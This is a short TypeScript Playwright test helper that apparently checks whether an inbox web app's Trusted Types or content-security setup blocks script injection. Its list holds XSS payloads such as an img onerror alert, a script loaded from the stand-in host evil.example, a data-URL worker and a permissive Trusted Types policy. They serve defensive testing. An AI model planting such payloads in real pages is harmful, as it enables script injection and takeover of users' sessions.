import type { Page } from "playwright-core";

/** What an attacker would have the inbox do with a text of theirs. */
export const TEXT_AS_CODE = [
  "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
  "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
  "document.createElement('script').text = 'alert(1)'",
  "document.createElement('script').src = 'https://evil.example/x.js'",
  "document.createElement('script').src = '/inbox/notice-templates.json'",
  "new Worker('data:text/javascript,alert(1)')",
  "trustedTypes.createPolicy('other', { createHTML: (text) => text })",
];

export const OWN_SCRIPT = "document.createElement('script').src = '/inbox/assets/index-a.js'";

/** "done", or the name of the error. */
export function outcomeOf(page: Page, code: string): Promise<unknown> {
  return page.evaluate(
    `(() => { try { ${code}; return "done" } catch (error) { return error.name } })()`,
  );
}
